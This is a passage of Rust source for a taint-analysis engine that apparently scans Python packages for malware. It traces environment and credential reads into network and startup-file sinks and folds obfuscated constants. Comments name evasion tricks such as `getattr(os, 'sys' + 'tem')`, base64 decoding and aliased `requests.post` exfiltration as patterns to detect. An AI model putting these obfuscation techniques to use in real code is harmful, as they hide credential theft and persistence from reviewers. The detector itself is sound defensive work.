//! The intra-procedural taint engine.
//!
//! One linear pass per scope: statements are processed in program
//! order, sharing a mutable environment of variable → taint bindings
//! and variable → constant-string bindings. Function and class bodies
//! are analyzed in a child environment layered over the enclosing one
//! (module-level constants and imports stay visible), with no
//! cross-call propagation — the soundness boundary `docs/
//! threat_model.md` documents. There is no fixpoint iteration, so cost
//! is linear in statement count and output is deterministic.
//!
//! An analysis builds in one [`Scratch`] its thread keeps between calls,
//! which holds ids and byte ranges rather than borrows:
//!
//! * a name is interned by its text to a `u32` id with one [`Slot`] that
//!   every scope shares; a `def` or `class` body logs the slots it
//!   overwrites and restores them on exit;
//! * a constant is a span of the module's text or a range of one text
//!   arena that concatenation, `%` and decoding append to;
//! * a value's taints sit on one stack and a call's arguments on another,
//!   each cut back when its expression is done;
//! * a taint chain is a list of [`Node`]s in one arena, and a note becomes
//!   text only when its chain reaches a sink.

use std::cell::Cell;
use std::collections::hash_map::RandomState;
use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasher, BuildHasherDefault};
use std::ops::{Bound, RangeBounds};
use std::sync::Arc;

use pysrc::{
    Expr, ExprId, ImportedName, LineCursor, Literal, Module, Prehashed, Run, Span, Stmt, Suite,
    Word,
};

use crate::catalog::{is_startup_path, sink_of, source_of, SinkKind, SourceKind};
use crate::fold;
use crate::{FlowFinding, FlowStep, FoldedConst, TaintSummary};

/// The operators the folder evaluates: concatenation and `%` formatting.
const PLUS: Word = Word::of("+");
const PERCENT: Word = Word::of("%");

/// Bound on distinct taints carried per binding (dedup by source path
/// keeps this small in practice; the cap defends against adversarial
/// fan-in).
const MAX_TAINTS: usize = 8;
/// Bound on steps retained per chain: first steps (the source and early
/// carries) plus the final sink step always survive.
const MAX_STEPS: u32 = 12;
/// Bound on recorded folded constants per module.
const MAX_FOLDED: usize = 64;
/// Folded constants shorter than this are noise (`'po' + 'st'` matters
/// for callee folding but not as a scan layer).
const MIN_FOLDED_LEN: usize = 4;
/// Notes longer than this are truncated — chains must stay cheap to
/// store in the artifact cache.
const MAX_NOTE_LEN: usize = 96;
/// Bound on the text arena: an operation that would grow it past this
/// folds nothing.
const MAX_FOLDED_TEXT: usize = 16 << 20;
/// A scratch that grew past this many bytes is freed after its analysis
/// rather than kept: one hostile file must not pin its memory.
const MAX_KEPT_SCRATCH: usize = 4 << 20;
/// No node or entry: the parent of a chain's first step.
const NONE: u32 = u32::MAX;

thread_local! {
    /// This thread's scratch, between analyses.
    static SCRATCH: Cell<Scratch> = Cell::default();
}

/// A constant string: a span of the module's text, a literal value the
/// module owns, or a range of the text arena.
#[derive(Debug, Clone, Copy)]
enum Text {
    Source(Span),
    Owned(Run),
    Arena(u32, u32),
}

impl Text {
    fn get<'a>(self, module: &'a Module, arena: &'a str) -> &'a str {
        match self {
            Text::Source(span) => span.text(module.source()),
            Text::Owned(run) => module.owned(run),
            Text::Arena(start, end) => &arena[start as usize..end as usize],
        }
    }
}

/// One taint mark: the interned source path, its kind, and the chain
/// node of the last step that carried it.
#[derive(Debug, Clone, Copy)]
struct Taint {
    source: u32,
    kind: SourceKind,
    chain: u32,
}

/// What a chain step says, by the ids of the texts it names.
#[derive(Debug, Clone, Copy)]
enum Note {
    /// `read {source}`.
    Read(u32),
    /// `call {source}(...)`.
    Call(u32),
    /// `open startup path {target}`, for the source `open[{target}]`.
    Open(u32),
    /// `{name} = {value}`.
    Assign(u32, ExprId),
    /// `{name} bound in block header`.
    Header(u32),
    /// `reaches sink {sink}(...)`, the step a flow ends with.
    Sink(u32),
}

/// One step of a taint chain, `depth` steps from its source. A step
/// [`MAX_STEPS`] or more deep points past its parent, at the chain's last
/// kept head step, so walking a chain visits what a summary shows of it.
#[derive(Debug, Clone, Copy)]
struct Node {
    parent: u32,
    depth: u32,
    line: u32,
    note: Note,
}

/// Everything a name is bound to in the scope being walked.
#[derive(Debug, Clone, Copy, Default)]
struct Slot {
    /// Taints: a range of [`Scratch::sets`].
    var: Option<(u32, u32)>,
    /// Constant-string binding (for folding through locals).
    cst: Option<Text>,
    /// Import binding: the canonical dotted path.
    alias: Option<Text>,
    /// The module's first import binding of the name anywhere, which
    /// answers for a name bound to nothing in scope. Obfuscators rewrite
    /// call spellings textually — `ctx.post(...)` can appear in a function
    /// whose `import requests as ctx` lives in a sibling.
    global: Option<Text>,
}

/// An interned text, `names[start..end]`, and its slot.
#[derive(Debug, Clone, Copy)]
struct Entry {
    start: u32,
    end: u32,
    /// The previous entry whose text has the same hash, or [`NONE`].
    older: u32,
    slot: Slot,
}

/// The value of an evaluated expression. Its taints are the top of
/// [`Scratch::stack`], from where it stood when evaluation began.
#[derive(Debug, Clone, Copy, Default)]
struct Value {
    /// Constant string value, when the expression folds.
    cval: Option<Text>,
    /// True when a real folding operation produced `cval` (as opposed
    /// to a literal or a plain lookup).
    folded: bool,
}

impl Value {
    fn new(cval: Option<Text>, folded: bool) -> Value {
        Value { cval, folded }
    }
}

/// A call argument's value and its taints, `stack[start..end]`.
#[derive(Debug, Clone, Copy)]
struct ArgValue {
    value: Value,
    start: u32,
    end: u32,
}

/// What an analysis builds in, kept per thread between analyses.
#[derive(Default)]
struct Scratch {
    /// Interned texts — names, source and sink paths — back to back.
    names: String,
    ids: Vec<Entry>,
    /// A text's hash under `hasher` (keyed, so a file cannot pick names
    /// that collide) → its newest entry. The key is a hash already, so
    /// the map hashes it no further.
    by_hash: HashMap<u64, u32, BuildHasherDefault<Prehashed>>,
    hasher: RandomState,
    /// Slots a `def` or `class` body overwrote, with their old values.
    undo: Vec<(u32, Slot)>,
    /// The taint sets of bindings.
    sets: Vec<Taint>,
    nodes: Vec<Node>,
    /// The taints of the values being evaluated.
    stack: Vec<Taint>,
    /// The arguments of the calls being evaluated, the innermost's last.
    args: Vec<ArgValue>,
    /// Folded and imported text.
    text: String,
    /// Decoded bytes.
    bytes: Vec<u8>,
    /// Callee-path buffers, one per nesting level in use.
    paths: Vec<String>,
    /// A note being rendered, or a glued word.
    buf: String,
    flows: Vec<FlowFinding>,
    /// The `(source, sink)` ids of `flows`.
    flow_keys: HashSet<(u32, u32)>,
    folded: Vec<(u32, Text)>,
}

/// Runs the taint analysis over a parsed module.
pub fn analyze(module: &Module) -> TaintSummary {
    let mut a = Analyzer {
        module,
        lines: module.lines().cursor(),
        scopes: 0,
        s: SCRATCH.take(),
    };
    a.collect_global_aliases();
    a.walk(module.top_level());
    let summary = a.s.summary(module);
    a.s.clear();
    keep(a.s);
    summary
}

/// Gives `s`, cleared, back to the thread, unless it grew too large.
fn keep(s: Scratch) {
    if s.heap_bytes() <= MAX_KEPT_SCRATCH {
        SCRATCH.set(s);
    }
}

struct Analyzer<'m> {
    module: &'m Module,
    /// The lines of the statements walked, which come in source order.
    lines: LineCursor<'m>,
    /// How many `def`/`class` bodies enclose the statement being walked.
    scopes: usize,
    s: Scratch,
}

impl<'m> Analyzer<'m> {
    fn walk(&mut self, body: Suite<'m>) {
        for stmt in body {
            self.stmt(stmt);
        }
    }

    fn stmt(&mut self, stmt: &'m Stmt) {
        let module = self.module;
        let (src, line) = (module.source(), self.lines.line_of(stmt.start()) as u32);
        let base = self.s.stack.len();
        match *stmt {
            Stmt::Import { .. } | Stmt::FromImport { .. } => {
                for (n, from) in imported(module, stmt) {
                    let (id, target) = self.import_binding(n, from);
                    self.set(id, |slot| slot.alias = Some(target));
                }
            }
            Stmt::Assign { targets, value, .. } => {
                let v = self.eval(value, line);
                self.record_fold(line, v);
                for target in module.targets(targets) {
                    let name = target_base(target, module);
                    if name.is_empty() {
                        continue;
                    }
                    let id = self.s.intern(name);
                    let var = self.stepped(base, line, Note::Assign(id, value));
                    self.set(id, |slot| {
                        slot.cst = v.cval;
                        slot.var = var;
                    });
                }
            }
            Stmt::Expr { value, .. }
            | Stmt::Return {
                value: Some(value), ..
            } => {
                // A return is not a sink: returning tainted data to an
                // unknown caller is the legit half of the corpus (version
                // strings, API lookups). Evaluate for sinks *inside* the
                // returned expression only.
                let v = self.eval(value, line);
                self.record_fold(line, v);
            }
            Stmt::Return { value: None, .. } => {}
            Stmt::Block { parsed, body, .. } => {
                // `with X as v:` / `for v in X:` headers bind names;
                // conditions can contain source/sink calls. The header is
                // evaluated in the block's scope.
                if let Some(header) = parsed {
                    let v = self.eval(header.value, line);
                    self.record_fold(line, v);
                    if let Some(target) = header.target {
                        self.bind_header_targets(target.text(src), base, line);
                    }
                    self.s.stack.truncate(base);
                }
                self.walk(module.suite(body));
            }
            Stmt::FunctionDef { params, body, .. }
            | Stmt::ClassDef {
                bases: params,
                body,
                ..
            } => {
                // Child scope: module bindings visible, parameters
                // shadow (and are untainted — intra-procedural). A dotted
                // base binds nothing a name could look up.
                let mark = self.s.undo.len();
                self.scopes += 1;
                for p in module.names(params) {
                    self.unbind(p.text(src), |slot| {
                        slot.var = None;
                        slot.cst = None;
                    });
                }
                self.walk(module.suite(body));
                self.scopes -= 1;
                for (id, slot) in self.s.undo.drain(mark..).rev() {
                    self.s.ids[id as usize].slot = slot;
                }
            }
            Stmt::Other { text, .. } => {
                // Unparsed statements: kill the constness of an
                // identifier assigned in the text, to stay conservative.
                let text = module.owned(text);
                if let Some(eq) = text.find('=') {
                    self.unbind(leading_ident(text[..eq].trim()), |slot| slot.cst = None);
                }
            }
        }
        self.s.stack.truncate(base);
    }

    /// Updates the slot of `id` in the current scope.
    fn set(&mut self, id: u32, update: impl FnOnce(&mut Slot)) {
        let slot = &mut self.s.ids[id as usize].slot;
        if self.scopes > 0 {
            self.s.undo.push((id, *slot));
        }
        update(slot);
    }

    /// Clears bindings of `name`: nothing to do for a name never seen.
    fn unbind(&mut self, name: &str, clear: impl FnOnce(&mut Slot)) {
        if let Some(id) = self.s.id(name) {
            self.set(id, clear);
        }
    }

    /// The name an import binds and the dotted path it names, written to
    /// the arena: the imported path for `import a.b as c`, the module `a`
    /// for `import a.b`, `m.x` for `from m import x`.
    fn import_binding(&mut self, n: &ImportedName, from: Option<Span>) -> (u32, Text) {
        let (src, text) = (self.module.source(), &mut self.s.text);
        let start = text.len() as u32;
        match (from, n.alias) {
            (Some(from), _) => {
                from.write_dotted(src, text);
                text.push('.');
                text.push_str(n.path.text(src));
            }
            (None, Some(_)) => n.path.write_dotted(src, text),
            (None, None) => text.push_str(n.binding(src)),
        }
        let target = Text::Arena(start, text.len() as u32);
        (self.s.intern(n.binding(src)), target)
    }

    /// Records every import binding anywhere in the module, the first of
    /// each name winning, as [`Slot::global`].
    fn collect_global_aliases(&mut self) {
        let module = self.module;
        for stmt in module.statements() {
            for (n, from) in imported(module, stmt) {
                let id = self.s.id(n.binding(module.source()));
                if id.is_none_or(|id| self.s.ids[id as usize].slot.global.is_none()) {
                    let (id, target) = self.import_binding(n, from);
                    self.s.ids[id as usize].slot.global = Some(target);
                }
            }
        }
    }

    /// Binds each name of a `for`/`with` header's target text to the
    /// header value's taints, `stack[base..]` (or unbinds it, when there
    /// are none).
    fn bind_header_targets(&mut self, targets: &str, base: usize, line: u32) {
        let mut buf = std::mem::take(&mut self.s.buf);
        let mut pos = 0;
        while let Some(name) = ident_word(targets, &mut pos, &mut buf) {
            if self.s.stack.len() == base {
                self.unbind(name, |slot| slot.var = None);
            } else {
                let id = self.s.intern(name);
                let var = self.stepped(base, line, Note::Header(id));
                self.set(id, |slot| slot.var = var);
            }
        }
        self.s.buf = buf;
    }

    /// The taints `stack[base..]`, each carried one step further by
    /// `note`, as a new binding set; `None` when there are none.
    fn stepped(&mut self, base: usize, line: u32, note: Note) -> Option<(u32, u32)> {
        let start = self.s.sets.len() as u32;
        for i in base..self.s.stack.len() {
            let t = self.s.stack[i];
            let chain = self.node(t.chain, line, note);
            self.s.sets.push(Taint { chain, ..t });
        }
        (self.s.stack.len() > base).then_some((start, self.s.sets.len() as u32))
    }

    /// A chain node carrying the chain `parent` (or [`NONE`]) one step
    /// further.
    fn node(&mut self, parent: u32, line: u32, note: Note) -> u32 {
        let (parent, depth) = match self.s.nodes.get(parent as usize) {
            None => (NONE, 1),
            Some(p) if p.depth >= MAX_STEPS => (p.parent, p.depth + 1),
            Some(p) => (parent, p.depth + 1),
        };
        let node = Node {
            parent,
            depth,
            line,
            note,
        };
        self.s.nodes.push(node);
        self.s.nodes.len() as u32 - 1
    }

    /// Pushes `t` onto the value whose taints begin at `stack[at]`,
    /// unless the value carries its source already or is full.
    fn add_taint(&mut self, at: usize, t: Taint) {
        let taints = &self.s.stack[at..];
        if taints.len() < MAX_TAINTS && !taints.iter().any(|e| e.source == t.source) {
            self.s.stack.push(t);
        }
    }

    /// Adds a taint read from the source path `path`, its first step
    /// `note`, to the value at `stack[at]`.
    fn add_source(
        &mut self,
        at: usize,
        path: &str,
        kind: SourceKind,
        line: u32,
        note: fn(u32) -> Note,
    ) {
        let source = self.s.intern(path);
        let chain = self.node(NONE, line, note(source));
        self.add_taint(
            at,
            Taint {
                source,
                kind,
                chain,
            },
        );
    }

    /// Adds the taints above `stack[mid]`, in order, to the value whose
    /// taints begin at `stack[at]`, in place.
    fn merge(&mut self, at: usize, mid: usize) {
        let stack = &mut self.s.stack;
        let mut end = mid;
        for i in mid..stack.len() {
            let t = stack[i];
            if end - at < MAX_TAINTS && !stack[at..end].iter().any(|e| e.source == t.source) {
                stack[end] = t;
                end += 1;
            }
        }
        stack.truncate(end);
    }

    fn eval(&mut self, id: ExprId, line: u32) -> Value {
        let module = self.module;
        let src = module.source();
        let at = self.s.stack.len();
        match *module.expr(id) {
            Expr::Name(n) => {
                let Some(id) = self.s.id(n.text(src)) else {
                    return Value::default();
                };
                let slot = self.s.ids[id as usize].slot;
                if let Some((start, end)) = slot.var {
                    let set = &self.s.sets[start as usize..end as usize];
                    self.s.stack.extend_from_slice(set);
                }
                Value::new(slot.cst, false)
            }
            Expr::Str(Literal::Source(span)) | Expr::Num(span) => {
                Value::new(Some(Text::Source(span)), false)
            }
            Expr::Str(Literal::Owned(run)) => Value::new(Some(Text::Owned(run)), false),
            Expr::Attribute { value, .. } => {
                // Taint flows through attribute access (`resp.text`),
                // and a dotted path can itself be a source
                // (`os.environ`). A constant receiver is preserved so
                // method-call chains (`fromhex(..).decode(..)`) keep
                // folding at the enclosing call.
                let v = self.eval(value, line);
                let mut path = self.s.paths.pop().unwrap_or_default();
                self.callee_path(id, None, &mut path);
                if let Some(kind) = source_of(&path) {
                    self.add_source(at, &path, kind, line, Note::Read);
                }
                self.give_back(path);
                v
            }
            Expr::BinOp { left, op, right } => {
                let l = self.eval(left, line);
                let mid = self.s.stack.len();
                let r = self.eval(right, line);
                self.merge(at, mid);
                let cval = match (op, l.cval, r.cval) {
                    (PLUS, Some(a), Some(b)) => self.fold(Some(a), |s, module| {
                        s.append(module, b, ..);
                        true
                    }),
                    (PERCENT, Some(fmt), Some(value)) => {
                        let at = fold::percent_at(fmt.get(module, &self.s.text));
                        self.fold(None, |s, module| {
                            let Some(at) = at else { return false };
                            s.append(module, fmt, ..at);
                            s.append(module, value, ..);
                            s.append(module, fmt, at + 2..);
                            true
                        })
                    }
                    _ => None,
                };
                Value::new(cval, cval.is_some())
            }
            Expr::Call { func, args } => self.eval_call(func, args, line),
            Expr::Other(text) => {
                // Identifier scan over reconstructed text: dict/list
                // literals, subscripts and tuples degrade to text, but
                // taint must still flow through them
                // (`requests.post(url, json={'email': email})`).
                let mut buf = std::mem::take(&mut self.s.buf);
                let mut pos = 0;
                while let Some(word) = ident_word(module.owned(text), &mut pos, &mut buf) {
                    let var = self
                        .s
                        .id(word)
                        .and_then(|id| self.s.ids[id as usize].slot.var);
                    for i in var.map_or(0..0, |(start, end)| start..end) {
                        self.add_taint(at, self.s.sets[i as usize]);
                    }
                }
                self.s.buf = buf;
                Value::default()
            }
        }
    }

    /// The constant `append` builds at the end of the text arena, behind
    /// `head`'s text (extended in place when it ends the arena); `None`
    /// when `append` fails or the arena is full.
    fn fold(
        &mut self,
        head: Option<Text>,
        append: impl FnOnce(&mut Scratch, &Module) -> bool,
    ) -> Option<Text> {
        let len = self.s.text.len();
        let start = match head {
            Some(Text::Arena(start, end)) if end as usize == len => start,
            Some(head) => {
                self.s.append(self.module, head, ..);
                len as u32
            }
            None => len as u32,
        };
        if !append(&mut self.s, self.module) || self.s.text.len() > MAX_FOLDED_TEXT {
            self.s.text.truncate(len);
            return None;
        }
        Some(Text::Arena(start, self.s.text.len() as u32))
    }

    fn eval_call(&mut self, func: ExprId, args: Run, line: u32) -> Value {
        let module = self.module;
        let at = self.s.stack.len();
        let mut path = self.s.paths.pop().unwrap_or_default();
        self.callee_path(func, Some(line), &mut path);

        // Receiver taints (method call on a tainted object) — also
        // evaluates any nested call in the callee position exactly once.
        let recv = self.eval(func, line);
        let recv_end = self.s.stack.len();

        // Arguments, on the argument stack until the call returns.
        let first = self.s.args.len();
        for a in module.args(args) {
            let start = self.s.stack.len() as u32;
            let value = self.eval(a.value, line);
            self.record_fold(line, value);
            let end = self.s.stack.len() as u32;
            self.s.args.push(ArgValue { value, start, end });
        }
        let arg0 = self
            .s
            .args
            .get(first)
            .map_or_else(Value::default, |a| a.value);

        // Constant folding of decode/transform chains.
        let out = self.fold_call(&path, func, arg0, recv);

        // Sink check: tainted data reaching a cataloged sink.
        if let Some(kind) = sink_of(&path) {
            for i in first..self.s.args.len() {
                let ArgValue { start, end, .. } = self.s.args[i];
                for j in start..end {
                    self.emit_flow(self.s.stack[j as usize], &path, kind, line);
                }
            }
        }
        // Receiver-based sink: write through a startup-path handle.
        if path.ends_with(".write") {
            for j in at..recv_end {
                let t = self.s.stack[j];
                if t.kind == SourceKind::StartupOpen {
                    self.emit_flow(t, &path, SinkKind::StartupWrite, line);
                }
            }
        }
        self.s.args.truncate(first);
        // The call's value carries the receiver's and the arguments' taints.
        self.merge(at, recv_end);

        // Source check: the call's result is tainted.
        if let Some(kind) = source_of(&path) {
            self.add_source(at, &path, kind, line, Note::Call);
        }
        // `open` on a startup/config path yields a persistence handle.
        if path == "open" || path == "io.open" {
            let target = arg0.cval.map_or("", |t| t.get(module, &self.s.text));
            if is_startup_path(target) {
                let mut source = std::mem::take(&mut self.s.buf);
                source.clear();
                source.extend(["open[", target, "]"]);
                self.add_source(at, &source, SourceKind::StartupOpen, line, Note::Open);
                self.s.buf = source;
            }
        }
        self.give_back(path);
        out
    }

    /// Folds constant-producing calls: decode chains, const-preserving
    /// string methods, `chr`, passthroughs.
    fn fold_call(&mut self, path: &str, func: ExprId, arg0: Value, recv: Value) -> Value {
        let module = self.module;
        let decoded = |decode: fn(&str, &mut Vec<u8>) -> bool| {
            move |s: &mut Scratch, module: &Module| {
                let Some(arg) = arg0.cval else { return false };
                let mut bytes = std::mem::take(&mut s.bytes);
                bytes.clear();
                let ok = decode(arg.get(module, &s.text), &mut bytes);
                if ok {
                    fold::push_lossy(&bytes, &mut s.text);
                }
                s.bytes = bytes;
                ok
            }
        };
        let cval = match path {
            "base64.b64decode" => self.fold(None, decoded(fold::b64decode)),
            "bytes.fromhex" => self.fold(None, decoded(digest::hex::decode_into)),
            "chr" => self.fold(None, |s, module| {
                let arg = arg0.cval.map_or("", |arg| arg.get(module, &s.text));
                fold::chr(arg).map(|c| s.text.push(c)).is_some()
            }),
            "str" | "os.path.expanduser" | "os.fsdecode" => return arg0,
            _ => {
                // `const.decode('utf-8')`, `.strip()`, ... — method on a
                // constant receiver preserves the constant.
                let method = match module.expr(func) {
                    Expr::Attribute { attr, .. } => attr.text(module.source()),
                    _ => "",
                };
                if fold::const_preserving_method(method) && recv.cval.is_some() {
                    return recv;
                }
                None
            }
        };
        Value::new(cval, cval.is_some())
    }

    /// Appends the canonical dotted path of a callee to `out`, resolving
    /// import aliases; appends nothing for shapes without a path. Given
    /// the `line` a call is evaluated at, `getattr`'s name argument folds
    /// first (`getattr(os, 'sys' + 'tem')`) and `__import__('m')`
    /// resolves.
    fn callee_path(&mut self, id: ExprId, line: Option<u32>, out: &mut String) {
        let module = self.module;
        let (src, start) = (module.source(), out.len());
        match *module.expr(id) {
            Expr::Name(n) => self.push_resolved(n.text(src), out),
            Expr::Attribute { value, attr } => {
                self.callee_path(value, line, out);
                if out.len() > start {
                    out.push('.');
                }
                out.push_str(attr.text(src));
            }
            Expr::Call { func, args } => {
                self.callee_path(func, line, out);
                let (Some(line), args) = (line, module.args(args)) else {
                    return;
                };
                let head = &out[start..];
                if head == "getattr" && args.len() >= 2 {
                    out.truncate(start);
                    self.callee_path(args[0].value, Some(line), out);
                    match self.eval_const(args[1].value, line) {
                        Some(name) => {
                            if out.len() > start {
                                out.push('.');
                            }
                            out.push_str(name.get(module, &self.s.text));
                        }
                        None => out.truncate(start),
                    }
                } else if head == "__import__" {
                    out.truncate(start);
                    if let Some(m) = args.first().and_then(|a| self.eval_const(a.value, line)) {
                        out.push_str(m.get(module, &self.s.text));
                    }
                }
            }
            Expr::Other(_) => {
                let mut path = self.s.paths.pop().unwrap_or_default();
                module.expr(id).write_func_path(module, &mut path);
                let (head, rest) = path.split_once('.').unwrap_or((&path, ""));
                self.push_resolved(head, out);
                if head.len() < path.len() {
                    out.extend([".", rest]);
                }
                self.give_back(path);
            }
            _ => {}
        }
    }

    /// The constant `id` evaluates to; its taints are dropped.
    fn eval_const(&mut self, id: ExprId, line: u32) -> Option<Text> {
        let at = self.s.stack.len();
        let cval = self.eval(id, line).cval;
        self.s.stack.truncate(at);
        cval
    }

    /// Appends the path the import alias `name` names, or `name` itself.
    /// The in-scope binding wins; the module-wide one answers only for a
    /// name with no variable or constant binding (never hijack a local).
    fn push_resolved(&self, name: &str, out: &mut String) {
        let slot = self.s.id(name).map(|id| self.s.ids[id as usize].slot);
        let alias = slot.and_then(|s| {
            let local = s.var.is_some() || s.cst.is_some();
            s.alias.or(if local { None } else { s.global })
        });
        out.push_str(alias.map_or(name, |a| a.get(self.module, &self.s.text)));
    }

    /// Returns a callee-path buffer to the pool.
    fn give_back(&mut self, mut path: String) {
        path.clear();
        self.s.paths.push(path);
    }

    /// Records the flow of `taint` into the call of `sink`, rendered as
    /// the summary shows it, unless its source already reached that sink.
    fn emit_flow(&mut self, taint: Taint, sink: &str, kind: SinkKind, line: u32) {
        let (s, module) = (&mut self.s, self.module);
        let sink = s.intern(sink);
        if !s.flow_keys.insert((taint.source, sink)) {
            return;
        }
        let (from, to) = (taint.kind.label(), kind.label());
        let mut label = String::with_capacity(7 + from.len() + to.len());
        label.extend(["flow:", from, "->", to]);
        // The chain as a summary keeps it: its first steps, then the sink.
        let tip = s.nodes[taint.chain as usize];
        let kept = tip.depth.min(MAX_STEPS - 1);
        let mut at = if tip.depth >= MAX_STEPS {
            tip.parent
        } else {
            taint.chain
        };
        let mut steps = Vec::with_capacity(kept as usize + 1);
        while let Some(node) = s.nodes.get(at as usize).copied() {
            let note = s.note(module, node.note);
            steps.push(FlowStep {
                line: node.line,
                note,
            });
            at = node.parent;
        }
        steps.reverse();
        let note = s.note(module, Note::Sink(sink));
        steps.push(FlowStep { line, note });
        let (source, sink) = (s.name(taint.source).to_owned(), s.name(sink).to_owned());
        s.flows.push(FlowFinding {
            label,
            source,
            sink,
            steps,
        });
    }

    fn record_fold(&mut self, line: u32, v: Value) {
        if !v.folded || self.s.folded.len() >= MAX_FOLDED {
            return;
        }
        if let Some(c) = v.cval {
            if c.get(self.module, &self.s.text).len() >= MIN_FOLDED_LEN {
                self.s.folded.push((line, c));
            }
        }
    }
}

impl Scratch {
    fn clear(&mut self) {
        self.names.clear();
        self.ids.clear();
        self.by_hash.clear();
        self.undo.clear();
        self.sets.clear();
        self.nodes.clear();
        self.stack.clear();
        self.args.clear();
        self.text.clear();
        self.flow_keys.clear();
        self.folded.clear();
    }

    fn heap_bytes(&self) -> usize {
        fn bytes<T>(v: &Vec<T>) -> usize {
            v.capacity() * std::mem::size_of::<T>()
        }
        let texts = [&self.names, &self.text, &self.buf]
            .into_iter()
            .chain(&self.paths);
        let vecs = bytes(&self.ids) + bytes(&self.undo) + bytes(&self.sets) + bytes(&self.nodes);
        let stacks = bytes(&self.stack) + bytes(&self.args) + bytes(&self.bytes);
        let out = bytes(&self.flows) + bytes(&self.folded);
        let maps = (self.by_hash.capacity() + self.flow_keys.capacity()) * 16;
        texts.map(String::capacity).sum::<usize>() + vecs + stacks + out + maps
    }

    fn name(&self, id: u32) -> &str {
        let e = &self.ids[id as usize];
        &self.names[e.start as usize..e.end as usize]
    }

    /// The id of `text`, if it was interned.
    fn id(&self, text: &str) -> Option<u32> {
        let mut id = *self.by_hash.get(&self.hasher.hash_one(text))?;
        while self.name(id) != text {
            id = self.ids[id as usize].older;
            if id == NONE {
                return None;
            }
        }
        Some(id)
    }

    fn intern(&mut self, text: &str) -> u32 {
        if let Some(id) = self.id(text) {
            return id;
        }
        let id = self.ids.len() as u32;
        let start = self.names.len() as u32;
        self.names.push_str(text);
        let hash = self.hasher.hash_one(text);
        self.ids.push(Entry {
            start,
            end: self.names.len() as u32,
            older: self.by_hash.insert(hash, id).unwrap_or(NONE),
            slot: Slot::default(),
        });
        id
    }

    /// Appends `range` of `t`'s text to the text arena.
    fn append(&mut self, module: &Module, t: Text, range: impl RangeBounds<usize>) {
        let from = match range.start_bound() {
            Bound::Included(&at) => at,
            _ => 0,
        };
        let to = match range.end_bound() {
            Bound::Excluded(&at) => at,
            _ => t.get(module, &self.text).len(),
        };
        match t {
            Text::Arena(start, _) => {
                let start = start as usize;
                self.text.extend_from_within(start + from..start + to);
            }
            _ => self.text.push_str(&t.get(module, "")[from..to]),
        }
    }

    /// A step's note: rendered, clipped, and copied out once.
    fn note(&mut self, module: &Module, note: Note) -> String {
        let mut buf = std::mem::take(&mut self.buf);
        buf.clear();
        match note {
            Note::Read(id) => buf.extend(["read ", self.name(id)]),
            Note::Call(id) => buf.extend(["call ", self.name(id), "(...)"]),
            Note::Open(id) => {
                let source = self.name(id);
                buf.extend(["open startup path ", &source[5..source.len() - 1]]);
            }
            Note::Assign(id, value) => {
                buf.extend([self.name(id), " = "]);
                let at = buf.len();
                module.expr(value).write_text(module, &mut buf);
                clip(&mut buf, at);
            }
            Note::Header(id) => buf.extend([self.name(id), " bound in block header"]),
            Note::Sink(id) => buf.extend(["reaches sink ", self.name(id), "(...)"]),
        }
        clip(&mut buf, 0);
        let note = buf.as_str().to_owned();
        self.buf = buf;
        note
    }

    /// The flows sorted and the folded constants sorted by (line, text)
    /// and deduplicated, each constant copied out once.
    fn summary(&mut self, module: &Module) -> TaintSummary {
        self.flows.sort();
        let text = |c: &(u32, Text)| c.1.get(module, &self.text);
        self.folded
            .sort_by(|a, b| a.0.cmp(&b.0).then_with(|| text(a).cmp(text(b))));
        self.folded
            .dedup_by(|a, b| a.0 == b.0 && text(a) == text(b));
        let folded = self.folded.iter().map(|c| FoldedConst {
            line: c.0,
            text: text(c).to_owned(),
        });
        TaintSummary {
            folded: folded.collect(),
            flows: self.flows.drain(..).map(Arc::new).collect(),
        }
    }
}

/// Clips `buf[from..]` to [`MAX_NOTE_LEN`] bytes plus an ellipsis.
fn clip(buf: &mut String, from: usize) {
    if buf.len() - from > MAX_NOTE_LEN {
        let mut cut = from + MAX_NOTE_LEN;
        while !buf.is_char_boundary(cut) {
            cut -= 1;
        }
        buf.truncate(cut);
        buf.push('…');
    }
}

/// Whether `named` holds for a name the engine can read or write through
/// degraded text: a word [`ident_word`] reads off an `Expr::Other`
/// rendering (the taints of an unparsed value), its [`leading_ident`] (an
/// unparsed assignment target), the head of the callee path
/// [`Expr::write_func_path`] writes for it (an unparsed callee, resolved
/// as an import alias), or the [`leading_ident`] left of the `=` of a
/// `Stmt::Other` (a constant killed). These are the names the engine
/// finds in no source span, which a search of the source can miss:
/// `ident_word` glues words across quoted runs, a bracketed literal is
/// rendered without the spaces between its tokens, and the callee path
/// drops whitespace. Reads through the buffers the thread keeps.
pub(crate) fn degraded_names(module: &Module, mut named: impl FnMut(&str) -> bool) -> bool {
    let mut s = SCRATCH.take();
    let (mut glued, mut path) = (
        std::mem::take(&mut s.buf),
        s.paths.pop().unwrap_or_default(),
    );
    let mut in_expr = |expr: &Expr| {
        let Expr::Other(text) = *expr else {
            return false;
        };
        let text = module.owned(text);
        let mut pos = 0;
        while let Some(word) = ident_word(text, &mut pos, &mut glued) {
            if named(word) {
                return true;
            }
        }
        // A callee path is written only for text of identifiers, dots,
        // parentheses and whitespace: any other ASCII byte survives into
        // the path and rules it out, so such text (most of it, a
        // collection literal's) is not copied.
        let pathlike = |b: u8| {
            b.is_ascii_alphanumeric()
                || b"_.()".contains(&b)
                || !b.is_ascii()
                || b.is_ascii_whitespace()
        };
        path.clear();
        if text.bytes().all(pathlike) {
            expr.write_func_path(module, &mut path);
        }
        let head = path.split_once('.').map_or(path.as_str(), |(head, _)| head);
        named(leading_ident(text)) || named(head)
    };
    let found = module.expressions().iter().any(&mut in_expr)
        || module.statements().iter().any(|stmt| match *stmt {
            Stmt::Other { text, .. } => {
                let text = module.owned(text);
                text.find('=')
                    .is_some_and(|eq| named(leading_ident(text[..eq].trim())))
            }
            _ => false,
        });
    s.buf = glued;
    path.clear();
    s.paths.push(path);
    keep(s);
    found
}

/// The names an import statement binds, each with the module a
/// from-import reads it from; a star import binds none.
fn imported<'m>(
    module: &'m Module,
    stmt: &Stmt,
) -> impl Iterator<Item = (&'m ImportedName, Option<Span>)> {
    let (names, from) = match *stmt {
        Stmt::Import { modules, .. } => (modules, None),
        Stmt::FromImport { module, names, .. } => (names, Some(module)),
        _ => (Run::default(), None),
    };
    let star = move |n: &&ImportedName| from.is_some() && n.path.text(module.source()) == "*";
    module
        .imports(names)
        .iter()
        .filter(move |n| !star(n))
        .map(move |n| (n, from))
}

/// The base identifier of an assignment target, read off the front of
